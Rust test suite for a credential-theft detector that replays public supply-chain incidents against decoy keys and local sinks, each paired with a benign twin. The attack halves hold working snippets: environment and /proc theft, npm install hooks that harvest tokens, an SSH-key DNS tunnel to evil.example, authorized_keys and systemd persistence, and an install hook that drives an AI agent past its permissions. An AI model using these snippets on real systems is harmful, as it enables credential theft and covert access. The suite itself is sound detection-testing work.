//! Incidents of public write-ups, rebuilt with decoys, real interpreters and sinks on this machine: each gives the finding
//! that names it, and its benign twin, the same programs at their legitimate work, gives none.

use crate::{
    agent::Agent,
    command::{Act, Background, act},
    events::{Ask as _, list, of_kind},
    machine::{Scratch, patience, turn, wait_for},
    plant,
    server::Sink,
};
use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
};

/// Findings about a tree of processes that are worth waking somebody for.
const ALARMS: [&str; 3] = ["medium", "high", "critical"];

/// Waits for the finding.
pub(super) fn found(agent: &Agent, root: u32, rule: &str) {
    agent.expect(rule, root, |e| {
        e.in_tree(root) && e.finding.as_ref().is_some_and(|f| f.rule == rule)
    });
}

/// Fails when anybody of this tree was accused.
pub(super) fn acquitted(agent: &Agent, root: u32) {
    agent.wait_idle();
    let findings = of_kind(&agent.tree(root), "finding");
    let said: Vec<String> = findings
        .iter()
        .filter_map(|e| e.finding.as_ref())
        .filter(|f| ALARMS.contains(&f.severity.as_str()))
        .map(|f| format!("{}: {}", f.rule, f.seen))
        .collect();
    assert!(said.is_empty(), "{said:?}\n{}", list(&agent.tree(root)));
}

/// A directory outside of the scratch place, gone with the test.
struct Remove<'a>(&'a Path);

impl Drop for Remove<'_> {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(self.0);
    }
}

/// Keys as they lie in a developer's home.
struct Home {
    dir: PathBuf,
    github: plant::Planted,
}

impl Home {
    fn new(dir: PathBuf) -> Self {
        let github = plant::github();
        fs::create_dir_all(&dir).unwrap();
        plant::aws_credentials(&dir);
        let write = |name: &str, text: String| {
            let path = dir.join(name);
            fs::write(&path, text).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        };
        let npm = plant::npm();
        write(
            ".npmrc",
            format!("//registry.npmjs.org/:_authToken={}\n", npm.value),
        );
        write(
            ".netrc",
            format!("machine github.com login ada password {}\n", github.value),
        );
        write(
            ".slack",
            format!("SLACK_BOT_TOKEN={}\n", plant::slack().value),
        );
        Self { dir, github }
    }
}

fn script(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// `npm install` in a project whose package has these scripts; nothing is fetched.
fn npm_install(project: &Path, home: &Path, scripts: &str) -> Act {
    fs::create_dir_all(project).unwrap();
    fs::write(
        project.join("package.json"),
        format!("{{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{{{scripts}}}}}"),
    )
    .unwrap();
    act("npm")
        .args([
            "install",
            "--offline",
            "--no-audit",
            "--no-fund",
            "--foreground-scripts",
        ])
        .current_dir(project)
        .env("HOME", home)
        .env("npm_config_update_notifier", "false")
        .limit(60)
}

/// Codecov 2021: a CI script sends its whole environment.
pub fn an_uploader_sends_the_environment() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let url = format!("http://127.0.0.1:{}/upload/v2", sink.port);
    let job = |script: &str| {
        let github = plant::github();
        let aws = plant::aws();
        act("bash")
            .args(["-c", script, "codecov", &url])
            .env("GITHUB_TOKEN", &github.value)
            .env("AWS_ACCESS_KEY_ID", aws.identifier.as_deref().unwrap())
            .env("AWS_SECRET_ACCESS_KEY", &aws.value)
            .env("NPM_TOKEN", plant::npm().value)
            .run()
            .ok()
    };
    let attack = job("curl -sm 60 -X POST -d \"$(git remote -v 2>/dev/null) $(env)\" \"$1\"; :");
    found(&agent, attack.pid, "bulk-send");
    // The real uploader sends the one token it was given.
    let twin = job(
        "printf 'header = \"Authorization: Bearer %s\"\\n' \"$GITHUB_TOKEN\" | curl -sm 60 -K - \"$1\"; :",
    );
    acquitted(&agent, twin.pid);
}

/// tj-actions 2025: the memory of the runner is read for its secrets.
pub fn a_runner_is_read() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let runner = scratch.join("Runner.Worker");
    fs::copy(crate::machine::find("bash").unwrap(), &runner).unwrap();
    let holder = act(&runner)
        .args(["-c", "while read line; do :; done"])
        .env("GITHUB_TOKEN", plant::github().value)
        .spawn_listening();
    agent.expect("the runner's token", holder.pid(), |e| {
        e.is("credential_exposed") && e.pid() == holder.pid()
    });
    let reader = "import re, sys
pid = sys.argv[1]
for line in open(f'/proc/{pid}/maps'):
    m = re.match('([0-9a-f]+)-([0-9a-f]+) r', line)
    if m and '[stack]' in line:
        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
            memory.seek(int(m[1], 16)); memory.read(int(m[2], 16) - int(m[1], 16))";
    let python = |pid: &str| act("python3").args(["-c", reader, pid]).run().ok();
    let attack = python(&holder.pid().to_string());
    found(&agent, attack.pid, "taken-from-process");
    // Somebody inspects a process of his own.
    let twin = python("self");
    acquitted(&agent, twin.pid);
}

/// s1ngularity 2025: a package's script has an AI agent look for keys.
pub fn an_installation_drives_an_agent() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let tool = scratch.join("bin/claude");
    script(&tool, "#!/bin/bash\ncat ~/.netrc >/dev/null\n:\n");
    let attack = npm_install(
        &scratch.join("attack"),
        &home.dir,
        &format!(
            "\"postinstall\":\"{} --dangerously-skip-permissions -p search\"",
            tool.display()
        ),
    )
    .run()
    .ok();
    found(&agent, attack.pid, "agent-in-install");
    // A package that builds itself; npm has its own token in its own file.
    let twin = npm_install(
        &scratch.join("twin"),
        &home.dir,
        "\"postinstall\":\"node -e process.exit\"",
    )
    .run()
    .ok();
    acquitted(&agent, twin.pid);
}

/// Shai-Hulud 2.0: a package's script gathers what lies in a home.
pub fn an_installation_gathers_keys() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let gather = scratch.join("attack/setup.js");
    script(
        &gather,
        "const fs = require('fs'), h = process.env.HOME;
         for (const f of ['.aws/credentials', '.netrc', '.slack']) fs.readFileSync(`${h}/${f}`);",
    );
    let attack = npm_install(
        &scratch.join("attack"),
        &home.dir,
        "\"preinstall\":\"node setup.js\"",
    )
    .run()
    .ok();
    found(&agent, attack.pid, "bulk-harvest");
    found(&agent, attack.pid, "package-install");
    // Memory answers for whom it was, and leaves out what is not asked for.
    let says = |command: &str, filter: [&str; 2], what: &str| {
        let asked = agent.client(command).args(filter).args(["-o", "csv"]);
        asked.run().ok().stdout_text().contains(what)
    };
    for command in ["findings", "uses"] {
        wait_for("memory's answer", patience(10), || {
            says(command, ["--context", "npm"], "package (npm)").then_some(())
        });
        assert!(says(command, ["--actor", "package"], "package (npm)"));
        assert!(!says(command, ["--actor", "!package"], "package (npm)"));
        assert!(!says(command, ["--context", "!package_install"], "(npm)"));
    }
    // A deployment by npm that uses the one key it is there for.
    let deploy = scratch.join("twin/deploy.js");
    script(
        &deploy,
        "require('fs').readFileSync(process.env.HOME + '/.aws/credentials');",
    );
    fs::write(
        scratch.join("twin/package.json"),
        "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"deploy\":\"node deploy.js\"}}",
    )
    .unwrap();
    let twin = act("npm")
        .args(["run", "deploy"])
        .current_dir(scratch.join("twin"))
        .env("HOME", &home.dir)
        .limit(60)
        .run()
        .ok();
    acquitted(&agent, twin.pid);
}

/// LiteLLM 2026: a path file runs at every start of Python, gathers keys, and stays by a unit of the user.
pub fn a_path_file_stays() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    // A place that counts as a home; gone with the test.
    let home = Home::new(PathBuf::from(format!("/home/kt{}", std::process::id())));
    let _remove = Remove(&home.dir);
    let site = scratch.join("lib/site-packages");
    script(
        &site.join("gather.py"),
        "import os
h = os.environ['HOME']
for f in ('.aws/credentials', '.netrc', '.slack'):
    open(f'{h}/{f}').read()
os.makedirs(f'{h}/.config/systemd/user', exist_ok=True)
open(f'{h}/.config/systemd/user/sysmon.service', 'w').write('[Service]\\nExecStart=/bin/true\\n')
",
    );
    fs::write(site.join("gather.pth"), "import gather\n").unwrap();
    let start = format!("import site; site.addsitedir({:?})", site.to_str().unwrap());
    let attack = act("python3")
        .args(["-c", &start])
        .env("HOME", &home.dir)
        .run()
        .ok();
    found(&agent, attack.pid, "bulk-harvest");
    found(&agent, attack.pid, "persistence");
    // A person's own unit and shell.
    let twin = act("python3")
        .args([
            "-c",
            "import os; h = os.environ['HOME']
open(f'{h}/.config/systemd/user/mine.service', 'w').write('[Service]\\nExecStart=/bin/true\\n')
open(f'{h}/.bashrc', 'a').write('alias ll=ls\\n')",
        ])
        .env("HOME", &home.dir)
        .run()
        .ok();
    let written = agent.expect("the unit", twin.pid, |e| {
        e.is("persistence_written") && e.in_tree(twin.pid) && e.path().ends_with("mine.service")
    });
    assert_eq!(written.attack, ["T1543.002"], "{}", written.brief());
    acquitted(&agent, twin.pid);
}

/// CVE-2026-21852, injectivelabs 2026: the usual program sends the usual key, to another place.
pub fn the_right_key_to_a_wrong_place() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let client = "import http.client, os, re, sys
key = re.search('password (.*)', open(os.environ['HOME'] + '/.netrc').read())[1]
for line in sys.stdin:
    c = http.client.HTTPConnection(line.strip(), 8099, timeout=5)
    c.request('POST', '/v1/messages', headers={'x-api-key': key})
    c.getresponse().read()";
    // Addresses that are not loopback's, in a network of its own.
    let mut network = act("unshare")
        .args(["--net", "bash", "-c"])
        .arg(
            "ip link set lo up; ip addr add 203.0.113.7/32 dev lo; ip addr add 203.0.113.8/32 dev lo
             setpriv --pdeathsig KILL python3 -m http.server --bind 0.0.0.0 8099 >/dev/null 2>&1 &
             until (: </dev/tcp/203.0.113.7/8099) 2>/dev/null; do sleep 0.1; done
             python3 -c \"$1\"",
        )
        .args(["bash", client])
        .env("HOME", &home.dir)
        .limit(120)
        .spawn_listening();
    let root = network.pid();
    network.say("203.0.113.7");
    let sent = agent.expect("the first send", root, |e| {
        e.is("credential_sent")
            && e.in_tree(root)
            && e.grade() == "observed"
            && e.peer().0 == "203.0.113.7"
    });
    agent
        .client("baseline")
        .args(["accept", sent.fingerprint()])
        .run()
        .ok();
    let before = agent.sequence();
    network.say("203.0.113.7");
    agent.expect("the second send", root, |e| {
        e.is("credential_sent") && e.in_tree(root) && e.sequence() > before
    });
    agent.wait_idle();
    let accused = of_kind(&agent.tree(root), "finding")
        .iter()
        .filter(|e| e.sequence() > before)
        .filter_map(|e| e.finding.clone())
        .filter(|f| f.rule == "wrong-place")
        .count();
    assert_eq!(accused, 0, "the usual place");
    network.say("203.0.113.8");
    found(&agent, root, "wrong-place");
    assert!(!home.github.value.is_empty());
    network.end();
}

/// A runner of CI: a copy of bash by its name, which does what it is told, one line after another.
fn runner(scratch: &Scratch, home: &Path) -> (Background, plant::Planted) {
    let path = scratch.join("Runner.Worker");
    fs::copy(crate::machine::find("bash").unwrap(), &path).unwrap();
    let identity = plant::oidc_request();
    let runner = act(&path)
        .args(["-c", "while read -r step; do bash -c \"$step\"; done"])
        .env("HOME", home)
        .env("npm_config_update_notifier", "false")
        .env(identity.name, &identity.value)
        .spawn_listening();
    (runner, identity)
}

/// TanStack 2026: a package takes the workflow's identity out of its runner, and gives it away.
pub fn a_package_takes_the_identity_of_its_workflow() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let (mut runner, identity) = runner(&scratch, &home.dir);
    let root = runner.pid();
    agent.expect("the runner's identity", root, |e| {
        e.is("credential_exposed") && e.pid() == root
    });
    // The workflow's own step publishes with the token that is there for it: npm itself, to its registry.
    let package = |name: &str, script: &str| {
        let dir = scratch.make(name);
        let json = format!("{{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{{{script}}}}}");
        fs::write(dir.join("package.json"), json).unwrap();
        dir
    };
    let twin = package("twin", "");
    let registry = format!("http://127.0.0.1:{}/", sink.port);
    fs::write(
        home.dir.join(".npmrc"),
        format!(
            "//127.0.0.1:{}/:_authToken={}\n",
            sink.port,
            plant::npm().value
        ),
    )
    .unwrap();
    runner.say(&format!(
        "cd {} && npm publish --registry {registry} --fetch-retries 0 >/dev/null 2>&1; : >{}",
        twin.display(),
        twin.join("done").display()
    ));
    wait_for("the publishing", patience(60), || {
        twin.join("done").exists().then_some(())
    });
    acquitted(&agent, root);
    let attack = package("attack", "\"postinstall\":\"node router.js\"");
    script(
        &attack.join("router.js"),
        "const fs = require('fs'), http = require('http');
         for (const pid of fs.readdirSync('/proc').filter(Number)) try {
           if (fs.readFileSync(`/proc/${pid}/comm`, 'utf8') != 'Runner.Worker\\n') continue;
           const all = fs.readFileSync(`/proc/${pid}/environ`, 'utf8');
           const token = all.match(/ACTIONS_ID_TOKEN_REQUEST_TOKEN=([^\\0]+)/)[1];
           http.request({ port: process.env.SINK, method: 'POST' }).end(token);
         } catch {}",
    );
    runner.say(&format!(
        "cd {} && SINK={} npm install --offline --no-audit --no-fund >/dev/null 2>&1",
        attack.display(),
        sink.port
    ));
    found(&agent, root, "taken-from-process");
    let sent = agent.expect("the identity's way out", root, |e| {
        e.is("credential_sent") && e.in_tree(root) && e.grade() == "observed"
    });
    assert_eq!(sent.peer().1, u32::from(sink.port), "{}", sent.brief());
    found(&agent, root, "package-install");
    assert!(sink.has(&identity.value));
    runner.end();
}

/// ChainDrop 2026: another name, another manager; a script of a package reads the registry's token, and publishes by it.
pub fn a_package_publishes_others() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let package = |name: &str, file: &str| {
        script(&scratch.join(name).join("build/index.js"), file);
        npm_install(
            &scratch.join(name),
            &home.dir,
            "\"prepare\":\"node build/index.js\"",
        )
        .env("REGISTRY_PORT", sink.port.to_string())
        .run()
        .ok()
    };
    let attack = package(
        "attack",
        "const rc = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8');
         const token = rc.split('_authToken=')[1].trim();
         for (const name of ['a', 'b', 'c'])
           require('http').request({ port: process.env.REGISTRY_PORT, method: 'PUT', path: '/' + name,
             headers: { authorization: 'Bearer ' + token } }).end('{}');",
    );
    found(&agent, attack.pid, "package-install");
    // A package that builds itself, inspects the machine for that, and asks npm for its version.
    let twin = package(
        "twin",
        "const fs = require('fs');
         fs.readFileSync('/proc/cpuinfo'); fs.readFileSync('/proc/self/status');
         fs.writeFileSync('built.js', 'module.exports = 1');
         require('child_process').execSync('npm config get registry');",
    );
    acquitted(&agent, twin.pid);
}

/// TeamTNT 2021: a script goes through the homes of a host for keys, and packs them.
pub fn a_script_packs_keys() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let run = |text: &str| {
        let done = act("bash").args(["-c", text, "x"]);
        done.arg(&home.dir).arg(scratch.path()).run().ok()
    };
    let attack = run(
        "for f in .aws/credentials .netrc .slack .npmrc; do all=\"$all$(cat \"$1/$f\" | base64 -w0)\"; done
         printf %s \"$all\" | gzip >\"$2/kit\"",
    );
    found(&agent, attack.pid, "bulk-harvest");
    let packed = run("tar -C \"$1\" -cf \"$2/l.tar\" .aws .netrc .slack .npmrc");
    found(&agent, packed.pid, "bulk-harvest");
    // A backup of the same home.
    let twin = run("tar -cf \"$2/backup.tar\" \"$1\"");
    acquitted(&agent, twin.pid);
}

/// tj-actions 2025, its end: secrets in the log of a job, which everybody can read.
pub fn a_job_prints_its_secret() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let path = scratch.join("Runner.Worker");
    fs::copy(crate::machine::find("bash").unwrap(), &path).unwrap();
    let job = |step: &str| {
        act(&path)
            .args(["-c", "bash -c \"$1\"; :", "runner", step])
            .env("GITHUB_TOKEN", plant::github().value)
            .run()
            .ok()
    };
    let attack = job("printf %s \"$GITHUB_TOKEN\" | base64; :");
    found(&agent, attack.pid, "written-to-log-or-terminal");
    // A login by a pipeline: what goes through it is not what the job prints.
    let twin = job(
        "printf %s \"$GITHUB_TOKEN\" | sh -c 'read -r password; test -n \"$password\"'; echo ok",
    );
    acquitted(&agent, twin.pid);
}

/// supplyhub 2026: a package's script reads its own environment by /proc.
pub fn an_installation_reads_its_environment() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("home"));
    let project = |name: &str, script: &str| {
        npm_install(&scratch.join(name), &home.dir, script)
            .env("STRIPE_SECRET_KEY", plant::stripe().value)
            .run()
            .ok()
    };
    let attack = project(
        "attack",
        "\"postinstall\":\"node -e \\\"require('fs').readFileSync('/proc/self/environ')\\\"\"",
    );
    found(&agent, attack.pid, "own-environment");
    let twin = project(
        "twin",
        "\"postinstall\":\"node -e \\\"console.log(process.env.HOME, process.version)\\\"\"",
    );
    acquitted(&agent, twin.pid);
}

/// A program that was put there a moment ago reads keys, and a file with a key that git tracks is read; the same programs of
/// the system, and files that git ignores, give nothing.
pub fn a_fresh_program_and_a_tracked_file() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(agent.home().join("ada"));
    let key = home.dir.join(".aws/credentials");
    // Not in a place for temporary files, which is a finding of its own.
    let place = tempfile::Builder::new()
        .prefix("keytrail-test-")
        .tempdir_in("/srv")
        .unwrap();
    let fresh = place.path().join("updater");
    fs::copy(
        fs::canonicalize(crate::machine::find("tail").unwrap()).unwrap(),
        &fresh,
    )
    .unwrap();
    let running = act(&fresh).arg("-f").arg(&key).spawn();
    found(&agent, running.pid(), "fresh-program");
    drop(running);
    // Other copies, which end at once: nobody can inspect them while they run.
    for n in 0..5 {
        let fresh = place.path().join(format!("updater{n}"));
        fs::copy(
            fs::canonicalize(crate::machine::find("tail").unwrap()).unwrap(),
            &fresh,
        )
        .unwrap();
        let done = act(&fresh).arg("-1").arg(&key).run().ok();
        let read = agent.expect("the read", done.pid, |e| {
            e.is("credential_read") && e.pid() == done.pid
        });
        let exe = read.process.as_ref().and_then(|p| p.executable.as_ref());
        assert!(exe.is_some_and(|exe| exe.fresh), "{}", read.brief());
    }

    let done = act("cat").arg(&key).run().ok();
    agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.pid() == done.pid
    });
    acquitted(&agent, done.pid);

    let app = place.path().join("app");
    fs::create_dir(&app).unwrap();
    for name in ["prod.env", ".env"] {
        let text = format!("STRIPE_SECRET_KEY={}\n", plant::stripe().value);
        fs::write(app.join(name), text).unwrap();
        fs::set_permissions(app.join(name), fs::Permissions::from_mode(0o600)).unwrap();
    }
    let git = |args: &[&str]| act("git").arg("-C").arg(&app).args(args).run().ok();
    git(&["init", "-q"]);
    fs::write(app.join(".gitignore"), ".env\n").unwrap();
    // What was inspected before is inspected again when it changes.
    git(&["add", "prod.env", ".gitignore"]);
    fs::write(
        app.join("prod.env"),
        format!("STRIPE_SECRET_KEY={}\n", plant::stripe().value),
    )
    .unwrap();
    let done = act("cat").arg(app.join("prod.env")).run().ok();
    // By who read it, or by who wrote it: whichever is reported first.
    agent.expect("in-work-tree", done.pid, |e| {
        e.path().ends_with("/prod.env")
            && e.finding.as_ref().is_some_and(|f| f.rule == "in-work-tree")
    });
    let done = act("cat").arg(app.join(".env")).run().ok();
    agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.pid() == done.pid
    });
    acquitted(&agent, done.pid);
}

/// A file of a user who has no account any more, and a history of a shell that has a token; a file of root's beside them gives
/// nothing.
pub fn what_was_left_behind() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let place = tempfile::Builder::new()
        .prefix("keytrail-test-")
        .tempdir_in("/srv")
        .unwrap();
    let plant = |name: &str, text: String| {
        let path = place.path().join(name);
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        path
    };
    let key = || format!("STRIPE_SECRET_KEY={}\n", plant::stripe().value);
    let left = plant("left.env", key());
    std::os::unix::fs::chown(&left, Some(54_321), None).unwrap();
    let kept = plant("kept.env", key());
    let typed = format!("ls\nexport {}cd\n", key());
    let history = plant(".bash_history", typed);
    for (file, rule) in [(&left, "orphaned"), (&history, "in-shell-history")] {
        let done = act("cat").arg(file).run().ok();
        // By who read it, or by whom it was made.
        agent.expect(rule, done.pid, |e| {
            e.path() == file.to_str().unwrap() && e.finding.as_ref().is_some_and(|f| f.rule == rule)
        });
    }
    let done = act("cat").arg(&kept).run().ok();
    agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.pid() == done.pid
    });
    acquitted(&agent, done.pid);
}

/// torchtriton 2022: a module reads keys when it is imported, and sends them as names that it asks the DNS for, in a form of its
/// own. A program that reads its key and asks for hosts gives nothing.
pub fn a_module_asks_the_dns() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let ssh = scratch.make("home/.ssh");
    act("ssh-keygen")
        .args(["-q", "-N", "", "-t", "rsa", "-f"])
        .arg(ssh.join("id_rsa"))
        .run()
        .ok();
    let ask = "import base64, os, socket, sys
key = open(os.environ['HOME'] + '/.ssh/id_rsa', 'rb').read()
text = base64.b32encode(bytes(b ^ 0x5a for b in key)).decode().rstrip('=').lower()
long = [f'{text[i:i + 60]}.{i}.evil.example' for i in range(0, len(text) - 60, 60)]
short = [f'node{n}.eu-west-1.corp.example' for n in range(40)]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name in (long if sys.argv[1] == 'long' else short):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    try:
        s.sendto(os.urandom(2) + bytes.fromhex('01000001000000000000') + labels + bytes.fromhex('0000010001'), ('127.0.0.1', 53))
    except OSError:
        pass";
    let python = |names: &str| {
        let asking = act("python3").args(["-c", ask, names]);
        asking.env("HOME", scratch.join("home")).run().ok()
    };
    let twin = python("short");
    let read = |pid: u32| {
        agent.expect("the read", pid, |e| {
            e.is("credential_read") && e.pid() == pid
        });
    };
    read(twin.pid);
    acquitted(&agent, twin.pid);
    let sent = of_kind(&agent.tree(twin.pid), "credential_sent");
    assert!(sent.is_empty(), "{}", list(&sent));
    let attack = python("long");
    found(&agent, attack.pid, "dns-tunnel");
}

/// Keys of a server encrypted by a script and sent; the same key used to sign what is sent gives nothing.
pub fn a_script_encrypts_a_servers_key() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    // Not in a place for temporary files.
    let place = tempfile::Builder::new()
        .prefix("keytrail-test-")
        .tempdir_in("/srv")
        .unwrap();
    let key = place.path().join("server.key");
    act("openssl")
        .args(["genrsa", "-out"])
        .arg(&key)
        .arg("4096")
        .run()
        .ok();
    let url = format!("http://127.0.0.1:{}/in", sink.port);
    let run = |text: &str| {
        let script = act("bash").args(["-c", text, "x"]).arg(&key).arg(&url);
        script.run().ok()
    };
    let twin =
        run("echo order | openssl dgst -sha256 -sign \"$1\" | curl -s --data-binary @- \"$2\"; :");
    acquitted(&agent, twin.pid);
    let attack = run(
        "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in \"$1\" | curl -s --data-binary @- \"$2\"; :",
    );
    found(&agent, attack.pid, "uploaded");
}

/// Akira and others, who bring what backups are made with: told to keep keys and nothing else. A backup of a home gives nothing.
pub fn a_backup_of_keys_alone() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let home = Home::new(scratch.join("keys"));
    for place in [".a/.netrc", ".b/.npmrc", ".c/.slack"] {
        let to = home.dir.join(place);
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        fs::rename(home.dir.join(&place[3..]), to).unwrap();
    }
    let repository = scratch.join("repository");
    let restic = |places: &[&str]| {
        let command = act("restic")
            .args(["-q", "--no-cache", "-r"])
            .arg(&repository);
        command
            .args(places)
            .current_dir(&home.dir)
            .env("RESTIC_PASSWORD_COMMAND", "echo x")
            .env("HOME", scratch.path())
            .limit(60)
            .run()
            .ok()
    };
    restic(&["init"]);
    let twin = restic(&["backup", "."]);
    acquitted(&agent, twin.pid);
    let attack = restic(&["backup", "--force", "./.aws", "./.a", "./.b", "./.c"]);
    found(&agent, attack.pid, "bulk-harvest");
}

/// What `curl | bash` brings, which takes nothing: it lets somebody in, and stays. A person's own start-up file, and a key that is
/// added, give nothing.
pub fn what_was_downloaded_stays() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    // A place that counts as a home; gone with the test.
    let home = PathBuf::from(format!("/home/kt{}", std::process::id()));
    let _remove = Remove(&home);
    for place in [".ssh", ".config/systemd/user"] {
        fs::create_dir_all(home.join(place)).unwrap();
    }
    let install = scratch.join("install.sh");
    let run = |text: &str| {
        fs::write(&install, text).unwrap();
        let piped = act("bash").args(["-c", "curl -s \"file://$1\" | bash; :", "x"]);
        piped.arg(&install).env("HOME", &home).run().ok()
    };
    let key = "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x' >> ~/.ssh/authorized_keys\n";
    let written = |pid: u32, name: &str| {
        agent.expect(name, pid, |e| {
            e.is("persistence_written") && e.in_tree(pid) && e.path().ends_with(name)
        });
    };
    let one = run(key);
    written(one.pid, "/authorized_keys");
    acquitted(&agent, one.pid);
    let two = run("echo 'alias ll=ls' >> ~/.bashrc; echo x > ~/.config/systemd/user/a.service\n");
    written(two.pid, "/a.service");
    acquitted(&agent, two.pid);
    // By another name of what lies there already, new or put over an old one.
    let three = run(
        "ln -s /opt/x.service ~/.config/systemd/user/b.service; ln -sf /opt/rc ~/.zprofile
         ln ~/.bashrc ~/.bash_login\n",
    );
    for (name, target) in [
        ("/b.service", "/opt/x.service"),
        ("/.zprofile", "/opt/rc"),
        ("/.bash_login", ""),
    ] {
        let linked = agent.expect(name, three.pid, |e| {
            e.is("persistence_written") && e.in_tree(three.pid) && e.path().ends_with(name)
        });
        let link = linked.change.as_ref().map_or("", |change| &change.link);
        assert_eq!(link, target, "{}", linked.brief());
        assert!(linked.executable().ends_with("/ln"), "{}", linked.brief());
    }
    let attack = run(&format!(
        "{key}printf '[Service]\\nExecStart=/bin/true\\n' > ~/.config/systemd/user/sysmon.service\nsleep 1\n"
    ));
    found(&agent, attack.pid, "persistence");
}

/// A person at a login shell who lets a colleague in and changes a start-up file, there and by a line of code, gives nothing. What
/// a pipe gives to a shell of the same session does.
pub fn a_person_lets_somebody_in() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    // A place that counts as a home.
    let home = PathBuf::from(format!("/home/kt{}", std::process::id()));
    let _remove = Remove(&home);
    fs::create_dir_all(home.join(".ssh")).unwrap();
    for place in [&home, &home.join(".ssh")] {
        fs::set_permissions(place, fs::Permissions::from_mode(0o777)).unwrap();
    }
    let at = home.display();
    // Of a user whose own start-up files do nothing.
    let session = |lines: &str| {
        let login = act("su").args(["-s", "/bin/bash", "-", "nobody"]);
        login.stdin(lines).run().ok()
    };
    let key =
        format!("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x' >> {at}/.ssh/authorized_keys");
    let start = format!("echo 'alias ll=ls' >> {at}/.profile");
    let written = |pid: u32, name: &str| {
        agent.expect(name, pid, |e| {
            e.is("persistence_written") && e.in_tree(pid) && e.path().ends_with(name)
        })
    };
    let typed = session(&format!("{key}\n{start}\nsleep 1\n"));
    written(typed.pid, "/authorized_keys");
    written(typed.pid, "/.profile");
    acquitted(&agent, typed.pid);
    let line = session(&format!("bash -c \"{key}; {start}; sleep 1; :\"\nexit\n"));
    written(line.pid, "/authorized_keys");
    let by = written(line.pid, "/.profile");
    let process = by.process.as_ref().unwrap();
    assert_eq!(process.argv[1], "-c", "{}", by.brief());
    acquitted(&agent, line.pid);
    let install = home.join("install.sh");
    fs::write(&install, format!("{key}\n{start}\nsleep 1\n")).unwrap();
    let piped = session(&format!(
        "curl -s file://{} | bash\nexit\n",
        install.display()
    ));
    found(&agent, piped.pid, "persistence");
}
